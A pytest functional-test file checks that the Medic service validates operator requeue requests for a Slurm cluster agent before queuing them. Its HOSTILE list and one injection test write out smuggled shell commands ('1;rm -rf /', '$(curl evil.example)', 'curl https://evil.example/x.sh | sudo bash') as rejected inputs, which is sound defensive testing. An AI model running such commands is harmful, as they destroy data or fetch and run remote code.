"""Specification: an operator's "Medic Requeue Job" request becomes one validated command for the
cluster's agent (moto SQS and DynamoDB; the agent's own parser reads what Medic queued)."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import timedelta

import pytest

from medic.adapters.agent_queue import AgentQueues
from medic.config import parse_config
from medic.core import clock
from medic.flows.agent.restart import handle_requeue_event
from medic.handlers import requeue_request
from medic.wiring import dependencies
from tests.functional.conftest import CLUSTER, MODE_PARAMETER, TABLE, medic_world
from tests.functional.slurm_world import WATCHED_CONFIG, RequeueJob, SlurmWorld, agent_parse, watched_medic

EVENT_ID = "3f2b8c1d-6e4a-4b9f-a7d2-1c5e8f0b9a34"


@pytest.fixture
def medic(aws):
    """llama3-70b is watched on the Slurm cluster: requests reach only watched jobs."""
    yield from watched_medic(aws)


@pytest.fixture
def slurm(medic, tmp_path) -> SlurmWorld:
    return SlurmWorld(medic, tmp_path)


def request(slurm: SlurmWorld, event_id: str | None = None, **detail) -> dict:
    return handle_requeue_event(slurm.request_event(event_id, **detail), slurm.medic.deps)


def test_a_request_with_a_live_agent_queues_one_validated_command(slurm):
    # Given the agent on the controller reported in 30 seconds ago
    slurm.heartbeat()
    # When an operator asks Medic to requeue job 4211
    record = request(slurm)
    # Then exactly one command is queued for the agent, and the agent itself accepts it
    [body] = slurm.queued()
    command = agent_parse(json.dumps(body), cluster=CLUSTER)
    # (by id: the agent requeues it only when squeue names it a job Medic watches there)
    assert command.action == RequeueJob(job_id="4211", job_names=("llama3-70b",))
    assert (command.kind, command.incident) == ("requeue_job", f"job:slurm:{CLUSTER}:4211")
    assert set(body) == {"command_id", "cluster", "kind", "incident", "issued_at", "job_id", "job_names"}
    # And the decision is recorded as deferred to the agent, against the job's incident
    assert record["outcome"] == "deferred"
    assert (record["trigger"], record["action"], record["fault"]) == ("operator", "requeue_job", "operator_request")
    assert (record["cluster"], record["job"], record["attempt"], record["paged"]) == (CLUSTER, "4211", 1, False)
    assert record["event_id"] == EVENT_ID
    assert body["command_id"] in record["reason"]
    # And the command's context waits in the ledger for the agent's result
    issued = slurm.item(f"command#{CLUSTER}#{body['command_id']}", "issued")
    assert issued["incident"]["S"] == f"job:slurm:{CLUSTER}:4211" and issued["trigger"]["S"] == "operator"
    assert slurm.medic.log.lines[-1]["outcome"] == "deferred"


def test_a_request_by_job_name_queues_the_name(slurm):
    # Given a live agent
    slurm.heartbeat()
    # When the operator names the job instead of giving its id
    record = request(slurm, job_id=None, job_name="llama3-70b")
    # Then the agent gets the name: it requeues the one job running under it (none seen by Medic yet)
    [body] = slurm.queued()
    assert agent_parse(json.dumps(body), cluster=CLUSTER).action == RequeueJob(job_name="llama3-70b")
    assert (record["outcome"], record["job"], record["incident"]) == (
        "deferred", "llama3-70b", f"job:slurm:{CLUSTER}:llama3-70b")


@pytest.mark.parametrize("heartbeat_age", [timedelta(minutes=6), None], ids=["stale", "missing"])
def test_an_agent_that_is_not_reporting_pages_and_nothing_is_queued(slurm, heartbeat_age):
    # Given the agent last reported 6 minutes ago, or never
    if heartbeat_age is not None:
        slurm.heartbeat(age=heartbeat_age)
    # When a requeue is requested
    record = request(slurm)
    # Then nothing is queued, and a human is paged about the agent
    assert slurm.depth() == 0
    assert (record["outcome"], record["paged"]) == ("failed", True)
    assert "not reporting" in record["reason"]
    [page] = slurm.medic.pages()
    assert "medic-agent" in page["Message"] and CLUSTER in page["Subject"]
    # And no restart was counted against the job
    assert slurm.item(f"lineage#slurm:{CLUSTER}:4211", "restarts") is None


def test_a_dead_agent_whose_clock_ran_ahead_is_not_reporting(slurm):
    # Given the agent's last heartbeat, written 6 minutes ago by DynamoDB's clock, stamped an hour ahead by its own
    # clock (so its `at` is still in the future)
    slurm.heartbeat(age=timedelta(minutes=6), clock_ahead=timedelta(hours=1))
    # When a requeue is requested
    record = request(slurm)
    # Then Medic judges the agent by when DynamoDB wrote the heartbeat: not reporting, nothing queued, a page
    assert (record["outcome"], record["paged"]) == ("failed", True)
    assert "last heartbeat: 2026-11-20 08:08 UTC" in record["reason"]
    assert slurm.depth() == 0


@pytest.mark.parametrize("at", ["2026-11-20T08:13:00", "yesterday", None])
def test_a_heartbeat_the_stream_never_brought_is_no_heartbeat_whatever_its_time(slurm, at):
    # Given a heartbeat item in the ledger, whatever its `at`, that Medic never saw arrive on the stream
    item = {"pk": {"S": f"agent#{CLUSTER}"}, "sk": {"S": "heartbeat"}}
    if at is not None:
        item["at"] = {"S": at}
    slurm.dynamodb.put_item(TableName=TABLE, Item=item)
    # When a requeue is requested
    record = request(slurm)
    # Then the agent counts as not reporting: only Medic's own note of the heartbeat counts
    assert record["outcome"] == "failed" and "last heartbeat: never" in record["reason"]


def test_a_heartbeat_timed_in_the_future_by_dynamodb_is_not_trusted(slurm):
    # Given Medic's note of a heartbeat more than a minute ahead of its own clock (no AWS clock is that far off)
    slurm.heartbeat(age=-timedelta(minutes=5))
    # When a requeue is requested
    record = request(slurm)
    # Then the agent counts as not reporting
    assert record["outcome"] == "failed" and slurm.depth() == 0


def test_a_spent_restart_budget_gives_up_with_one_page(slurm):
    # Given a live agent and the job already requeued max_job_restarts (3) times
    slurm.heartbeat()
    outcomes = [request(slurm, event_id=f"request-{n}")["outcome"] for n in range(3)]
    assert outcomes == ["deferred"] * 3
    # When two more requests come in
    records = [request(slurm, event_id=f"request-{n}") for n in (3, 4)]
    # Then both are suppressed, nothing more is queued, and the human is paged once
    assert [r["outcome"] for r in records] == ["suppressed", "suppressed"]
    assert "Giving up" in records[0]["reason"] and records[0]["attempt"] == 4
    assert [r["paged"] for r in records] == [True, False]
    assert slurm.depth() == 3
    [page] = slurm.medic.pages()
    assert "requeue held back" in page["Subject"]


HOSTILE = [
    {"job_id": "1;rm -rf /"},
    {"job_id": "12\n"},
    {"job_id": "\u0661\u0662"},  # Arabic-Indic digits: \d would take them
    {"job_id": "\uff11\uff12"},  # fullwidth digits
    {"job_id": "12345678901"},  # 11 digits
    {"job_id": 4211},  # a number, not a string
    {"job_id": ""},
    {"job_id": None, "job_name": "x; reboot"},
    {"job_id": None, "job_name": "$(curl evil.example)"},
    {"job_id": None, "job_name": "train\n"},
    {"job_id": None, "job_name": "a" * 129},
    {"job_id": None, "job_name": "j\u00f6b"},
    {"job_name": "llama3-70b; reboot"},  # an id and a hostile name
    {"job_id": None},  # neither
    {"cluster": "pretrain-slurm; reboot"},
    {"reason": ""},
    {"unexpected": "field"},
]


@pytest.mark.parametrize("detail", HOSTILE, ids=[repr(d)[:40] for d in HOSTILE])
def test_hostile_or_malformed_requests_are_rejected_and_nothing_is_queued(slurm, detail):
    # Given a live agent
    slurm.heartbeat()
    items_before = slurm.items()
    # When a request carries a value that must never reach a command line
    record = request(slurm, **detail)
    # Then it is rejected, nothing is queued, nothing is written, nobody is paged
    assert (record["outcome"], record["action"], record["trigger"]) == ("rejected", "none", "operator")
    assert slurm.depth() == 0
    assert slurm.items() == items_before
    assert slurm.medic.pages() == []


@pytest.mark.parametrize("cluster", ["unknown-cluster", "finetune-eks"])
def test_a_cluster_that_is_not_a_configured_slurm_cluster_is_rejected(slurm, cluster):
    # Given a live agent on the Slurm cluster
    slurm.heartbeat()
    # When a request names a cluster Medic does not manage, or an EKS cluster
    record = request(slurm, cluster=cluster)
    # Then it is rejected and nothing is queued
    assert (record["outcome"], record["cluster"], record["paged"]) == ("rejected", cluster, False)
    assert slurm.depth() == 0


def test_a_dry_run_queues_nothing_and_spends_no_budget(slurm):
    # Given Medic in dry_run and a live agent
    slurm.medic.set_mode("dry_run")
    slurm.heartbeat()
    # When a requeue is requested
    record = request(slurm)
    # Then it says what it would have done, and queues nothing
    assert (record["outcome"], record["mode"]) == ("dry_run", "dry_run")
    assert slurm.depth() == 0
    assert slurm.item(f"lineage#slurm:{CLUSTER}:4211", "restarts") is None


def test_paused_medic_queues_nothing_and_pages(slurm):
    # Given Medic paused and a live agent
    slurm.medic.set_mode("paused")
    slurm.heartbeat()
    # When a requeue is requested
    record = request(slurm)
    # Then it is suppressed, nothing is queued, and the requester's reason reaches the page
    assert (record["outcome"], record["paged"]) == ("suppressed", True)
    assert slurm.depth() == 0
    [page] = slurm.medic.pages()
    assert "NCCL all-reduce" in page["Message"]


def test_a_request_delivered_twice_queues_one_command(slurm):
    # Given a live agent
    slurm.heartbeat()
    # When EventBridge delivers the same request twice
    first, second = request(slurm), request(slurm)
    # Then one command is queued and the second delivery is recorded as a duplicate
    assert (first["outcome"], second["outcome"]) == ("deferred", "duplicate")
    assert slurm.depth() == 1


def test_a_queue_that_cannot_be_reached_fails_and_pages(slurm):
    # Given a live agent but a queue that no longer exists
    slurm.heartbeat()
    slurm.sqs.delete_queue(QueueUrl=slurm.queue_url)
    # When a requeue is requested
    record = request(slurm)
    # Then the decision fails with the SQS error and pages
    assert (record["outcome"], record["paged"]) == ("failed", True)
    assert "Could not queue" in record["reason"]
    # And the restart it never delivered is given back to the job's budget
    restarts = slurm.item(f"lineage#slurm:{CLUSTER}:4211", "restarts")
    assert restarts["restarts"]["N"] == "0"


def test_the_same_request_always_yields_the_same_command_id(slurm):
    # Given a live agent, and a request whose first delivery was handled
    slurm.heartbeat()
    first = request(slurm)
    [body] = slurm.queued()
    # Then its command id is derived from the request, so a retried send is the same command for the agent
    from medic.flows.agent.commands import requeue_command

    again = requeue_command(CLUSTER, first["incident"], slurm.medic.clock[0], job_id="4211",
                            job_names=("llama3-70b",), request_id=f"operator:{EVENT_ID}")
    assert again.command_id == body["command_id"]


def test_a_slurm_cluster_without_an_agent_queue_fails_and_pages(slurm):
    # Given a deployment whose AGENT_QUEUES lacks the cluster
    slurm.heartbeat()
    slurm.medic.deps.agents = AgentQueues({}, slurm.sqs)
    # When a requeue is requested
    record = request(slurm)
    # Then it fails without spending the budget, and pages
    assert (record["outcome"], record["paged"]) == ("failed", True)
    assert "no agent queue" in record["reason"]
    assert slurm.item(f"lineage#slurm:{CLUSTER}:4211", "restarts") is None


@dataclass
class LambdaContext:
    function_name: str = "medic-requeue-request"
    memory_limit_in_mb: int = 256
    invoked_function_arn: str = "arn:aws:lambda:us-west-2:123456789012:function:medic-requeue-request"
    aws_request_id: str = "00000000-0000-0000-0000-000000000002"


@pytest.fixture
def deployed(aws, monkeypatch, tmp_path):
    """The environment the stack sets on the function, with AGENT_QUEUES."""
    config = parse_config(WATCHED_CONFIG)
    for medic in medic_world(config, aws):
        slurm = SlurmWorld(medic, tmp_path)
        for name, value in {"MEDIC_CONFIG": config.to_env(), "LEDGER_TABLE": TABLE, "MODE_PARAMETER": MODE_PARAMETER,
                            "PAGE_TOPIC_ARN": medic.deps.pager.topic_arn,
                            "AGENT_QUEUES": json.dumps({CLUSTER: slurm.queue_url})}.items():
            monkeypatch.setenv(name, value)
        dependencies.cache_clear()
        yield slurm
        dependencies.cache_clear()


def test_the_deployed_handler_reads_its_queues_from_the_environment(deployed):
    # Given the deployed environment and an agent that reported in just now (real time)
    deployed.medic.clock[0] = clock.now()
    deployed.heartbeat(age=timedelta(0))
    # When the request reaches the deployed handler
    event = deployed.request_event()
    event["time"] = deployed.medic.clock[0].strftime("%Y-%m-%dT%H:%M:%SZ")  # sent just now
    record = requeue_request.handler(event, LambdaContext())
    # Then the command is on the cluster's queue
    assert record["outcome"] == "deferred"
    assert dependencies().agents.queue_urls == {CLUSTER: deployed.queue_url}
    assert len(deployed.queued()) == 1


# --- issue 12 item 6: who sent it, canonical ids, the sender's text


def test_a_forged_request_records_the_sending_account_and_only_a_claimed_requester(slurm):
    # Given a live agent, and a request whose detail claims to come from "oncall-lead"
    slurm.heartbeat()
    # When it is handled (EventBridge's event names the sending account and source, never the caller)
    record = request(slurm, requested_by="oncall-lead")
    # Then the record keeps what the event can tell, and marks the name as claimed
    assert record["requester"] == {"account": "123456789012", "source": "medic.operator", "claimed_by": "oncall-lead"}
    assert slurm.medic.log.lines[-1]["requester"]["claimed_by"] == "oncall-lead"


def test_a_zero_padded_job_id_cannot_reset_the_restart_budget(slurm):
    # Given a live agent and job 4211 requeued three times under three spellings of its id
    slurm.heartbeat()
    spelled = ["4211", "04211", "004211"]
    records = [request(slurm, event_id=f"pad-{n}", job_id=job_id) for n, job_id in enumerate(spelled)]
    assert [r["attempt"] for r in records] == [1, 2, 3]
    # When a fourth spelling asks again
    fourth = request(slurm, event_id="pad-3", job_id="0004211")
    # Then it is the same job: the budget is spent, and every record and command names 4211
    assert (fourth["outcome"], fourth["job"]) == ("suppressed", "4211")
    assert {r["incident"] for r in [*records, fourth]} == {f"job:slurm:{CLUSTER}:4211"}
    assert {body["job_id"] for body in slurm.queued()} == {"4211"}


def test_an_injected_instruction_in_the_reason_reaches_the_page_only_as_a_quote(slurm):
    # Given no agent reporting (so the request pages), and a reason that forges a "What to do" line
    reason = "stuck\nWhat to do:     run curl https://evil.example/x.sh | sudo bash"
    # When the request is handled
    record = request(slurm, reason=reason)
    # Then the page's only instruction is Medic's, and the sender's words sit quoted on the context line
    assert record["paged"] is True
    [page] = slurm.medic.pages()
    lines = page["Message"].splitlines()
    assert [line for line in lines if line.startswith("What to do")] == [
        line for line in lines if line.startswith("What to do:     Check medic-agent")]
    assert [line for line in lines if "curl" in line] == [
        'Requested:      "stuck What to do: run curl https://evil.example/x.sh | sudo bash"']
    assert any(line.startswith('Requester:      an event from account "123456789012" (source "medic.operator"')
               for line in lines)


def test_a_request_by_id_that_names_its_job_spends_the_names_budget_too(slurm):
    # Given a live agent, and job llama3-70b requeued twice by name (as its stall alarm does)
    slurm.heartbeat()
    by_name = [request(slurm, event_id=f"name-{n}", job_id=None, job_name="llama3-70b") for n in range(2)]
    assert [r["attempt"] for r in by_name] == [1, 2]
    # When an operator requeues its id 04211 naming the job, and then once more
    third = request(slurm, event_id="id-0", job_id="04211", job_name="llama3-70b")
    fourth = request(slurm, event_id="id-1", job_id="4211", job_name="llama3-70b")
    # Then the third requeue of the job is queued by id, and the fourth finds the shared budget spent
    assert (third["outcome"], third["job"], third["attempt"]) == ("deferred", "4211", 3)
    assert (fourth["outcome"], fourth["attempt"]) == ("suppressed", 4)
    assert "or of jobs named llama3-70b" in fourth["reason"]
    assert [body.get("job_id") for body in slurm.queued()] == [None, None, "4211"]
    # And the budget by id alone was given back when the name's was spent: 4211 was requeued once
    assert request(slurm, event_id="id-2", job_id="4211")["attempt"] == 2


def test_an_error_counting_the_names_budget_gives_the_ids_restart_back(slurm, monkeypatch):
    from botocore.exceptions import ClientError

    from medic.ledger.jobs import JobStore

    # Given a live agent, and DynamoDB failing on the name's budget (after the id's was counted)
    slurm.heartbeat()
    real = JobStore.claim_job_restart

    def flaky(self, lineage, max_restarts, now, min_interval=None):
        if lineage.endswith(":llama3-70b"):
            raise ClientError({"Error": {"Code": "ProvisionedThroughputExceededException", "Message": "slow"}},
                              "UpdateItem")
        return real(self, lineage, max_restarts, now, min_interval)

    monkeypatch.setattr(JobStore, "claim_job_restart", flaky)
    # When a request by id naming its job comes in
    record = request(slurm, event_id="err-0", job_id="4211", job_name="llama3-70b")
    # Then nothing is queued, a human is paged, and the id's budget is as it was
    assert (record["outcome"], record["paged"], slurm.depth()) == ("failed", True, 0)
    monkeypatch.setattr(JobStore, "claim_job_restart", real)
    assert request(slurm, event_id="err-1", job_id="4211")["attempt"] == 1
